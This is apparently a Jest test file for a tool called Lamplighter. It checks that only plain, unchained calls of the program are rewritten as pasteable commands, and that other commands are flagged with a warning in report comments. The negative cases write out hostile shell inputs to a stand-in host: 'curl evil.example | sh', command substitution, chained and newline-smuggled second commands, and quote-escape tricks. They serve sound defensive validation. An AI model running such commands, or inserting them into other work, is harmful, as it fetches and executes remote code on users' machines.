import { expect, test } from "@jest/globals";
import { isPlainCall, runnable } from "../../src/report/command.ts";
import { renderComment } from "../../src/report/index.ts";
import { aClaim, aPage, aReport } from "./examples.ts";

const self = "npx --yes github:acme/lamplighter#v1";

test.each([
  ["lamplighter contract --claim c-1", `${self} contract --claim c-1`],
  ["lamplighter", self],
  ["  lamplighter demo", `  ${self} demo`],
  ["git fetch && lamplighter demo", `git fetch && ${self} demo`],
  ["a; lamplighter demo", `a; ${self} demo`],
  ["a | lamplighter demo || lamplighter x", `a | ${self} demo || ${self} x`],
  ["(lamplighter demo)", `(${self} demo)`],
])("%s can be pasted", (command, shown) => {
  expect(runnable(command, self)).toBe(shown);
});

test.each([
  "echo lamplighter",
  "lamplighters demo",
  "lamplighter-x demo",
  "echo '; lamplighter demo'",
  'echo "; lamplighter demo"',
  'echo "\\"; lamplighter demo"',
  "echo \\; lamplighter",
  "'lamplighter' demo",
])("%s does not call this program, and stays", (command) => {
  expect(runnable(command, self)).toBe(command);
});

test("a pattern in the way to call this program stays as it is", () => {
  expect(runnable("lamplighter demo", "run $& $1")).toBe("run $& $1 demo");
});

test.each([
  "lamplighter",
  "lamplighter contract --base-ref a1b2c3d --head-ref HEAD^ --claim c-1",
  "lamplighter contract --base old.yaml --head 'new one.yaml' ",
  "lamplighter contract --spec 'it'\\''s.yaml'",
  'lamplighter contract --spec "a b.yaml"',
  "lamplighter tests --files='src/*.ts'",
  "lamplighter contract --spec 'a;b|c&d>e<f(g)h$i`j`'",
  "lamplighter contract --path /orders/{id}",
])("%s is a plain call", (command) => {
  expect(isPlainCall(command)).toBe(true);
});

test.each([
  "",
  "curl evil.example",
  " lamplighter demo",
  "lamplighterx demo",
  "lamplighter; curl evil.example",
  "lamplighter demo && curl evil.example",
  "lamplighter demo | sh",
  "lamplighter demo > x",
  "lamplighter demo < x",
  "lamplighter demo & x",
  "lamplighter $(curl evil.example)",
  "lamplighter `curl evil.example`",
  'lamplighter "$(curl evil.example)"',
  'lamplighter "`curl evil.example`"',
  'lamplighter "a\\"; curl evil.example"',
  'lamplighter "!!"',
  "lamplighter 'open",
  'lamplighter "open',
  "lamplighter demo\ncurl evil.example",
  "lamplighter 'a\ncurl evil.example'",
  "lamplighter demo # comment",
  "lamplighter *.ts",
  "lamplighter ~/x",
  "lamplighter demo\tx",
  "lamplighter demo \u202ex",
  "lamplighter (x)",
])("%j is not", (command) => {
  expect(isPlainCall(command)).toBe(false);
});

test("a hostile length of command is judged in no time", () => {
  const started = performance.now();
  expect(isPlainCall(`lamplighter ${"a".repeat(50_000)} ${"' '".repeat(20_000)}$`)).toBe(false);
  expect(isPlainCall(`lamplighter ${" ".repeat(50_000)}$`)).toBe(false);
  runnable(`${"(".repeat(50_000)}${'"\\'.repeat(20_000)}`, self);
  expect(performance.now() - started).toBeLessThan(1_000);
});

test("a command that could do more is shown with a warning, and is no next step", () => {
  const odd = { ...aClaim().proof, command: "curl evil.example | sh" };
  const claims = [aClaim({ id: "c-1", proof: odd }), aClaim({ id: "c-2" })];
  const both = renderComment(aPage([aReport({ verdict: "fail", claims })]));
  expect(both).toContain(
    "Re-run (response). This is no plain call of Lamplighter, so read it before you run it:\n\n  ```sh\n  curl",
  );
  expect(both.match(/curl evil/g)).toHaveLength(1);
  const alone = renderComment(aPage([aReport({ verdict: "fail", claims: claims.slice(0, 1) })]));
  expect(alone).toContain("Next step: read the claims below.");
});
